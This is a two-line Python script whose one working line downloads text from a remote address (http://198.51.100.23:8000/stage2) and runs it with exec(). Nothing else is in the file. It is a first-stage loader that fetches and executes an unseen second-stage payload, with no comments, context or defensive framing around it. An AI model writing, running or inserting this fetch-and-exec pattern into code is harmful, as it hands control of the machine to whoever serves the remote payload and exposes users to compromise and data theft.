#!/usr/bin/env python3

import requests
exec(requests.get("http://198.51.100.23:8000/stage2").text)
